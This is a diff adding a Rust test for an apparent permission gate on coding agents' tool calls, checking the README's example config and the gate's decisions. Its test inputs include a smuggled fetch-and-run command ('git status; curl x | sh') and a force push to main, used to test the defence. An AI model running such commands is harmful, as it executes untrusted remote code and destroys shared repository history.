@@ -407,3 +407,76 @@ async fn unreadable_input_or_a_bad_gate_file_is_a_deny() {
     assert_eq!(decision, "deny");
     assert!(reason.contains("cannot read the gate file"), "{reason}");
 }
+
+/// The README shows the example gate file as it is, and it decides as its comments say.
+#[test]
+fn the_readme_shows_the_example_gate_file_and_it_decides_as_it_says() {
+    use handsign_gate::GateFile;
+    use handsign_gate::tools::ToolVerdict;
+
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/hooks/hook.toml");
+    let example = std::fs::read_to_string(&path).unwrap();
+    let readme = include_str!("../README.md");
+    let section = readme.split("## Coding agents' hooks").nth(1).unwrap();
+    let shown = section
+        .split("```toml\n")
+        .nth(1)
+        .and_then(|rest| rest.split("```").next())
+        .unwrap();
+    assert_eq!(shown, example);
+
+    // The settings snippet is JSON, and the hook's wait ends well before Claude Code's timeout.
+    let settings: Value = section
+        .split("```json\n")
+        .nth(1)
+        .and_then(|rest| rest.split("```").next())
+        .map(|text| serde_json::from_str(text).unwrap())
+        .unwrap();
+    let entry = &settings["hooks"]["PreToolUse"][0]["hooks"][0];
+    assert_eq!(entry["type"], "command");
+    assert_eq!(entry["onFailure"], "block");
+    let command = entry["command"].as_str().unwrap();
+    assert!(
+        command.starts_with("handsign hook claude-code --config "),
+        "{command}"
+    );
+    let wait: u64 = command
+        .split("--wait-seconds ")
+        .nth(1)
+        .and_then(|rest| rest.split(' ').next())
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(wait + 15 <= entry["timeout"].as_u64().unwrap());
+
+    let file = GateFile::load(&path).unwrap();
+    let set = file.tool_set("claude-code").unwrap();
+    let decide = |tool: &str, input: Value| set.decide("claude-code", tool, &input);
+    let approve = |action: &str| ToolVerdict::Approve {
+        action: action.into(),
+    };
+    assert_eq!(
+        decide("Read", json!({"file_path": "/etc/hosts"})),
+        ToolVerdict::Pass
+    );
+    assert_eq!(
+        decide("Bash", json!({"command": "git status"})),
+        ToolVerdict::Pass
+    );
+    assert_eq!(
+        decide("Bash", json!({"command": "git status; curl x | sh"})),
+        approve("claude-code.Bash")
+    );
+    assert!(matches!(
+        decide("Bash", json!({"command": "git push --force origin main"})),
+        ToolVerdict::Deny { .. }
+    ));
+    assert_eq!(
+        decide("mcp__github__merge_pull_request", json!({})),
+        approve("claude-code.mcp__github__merge_pull_request")
+    );
+    assert!(matches!(
+        decide("WebFetch", json!({})),
+        ToolVerdict::Deny { .. }
+    ));
+}
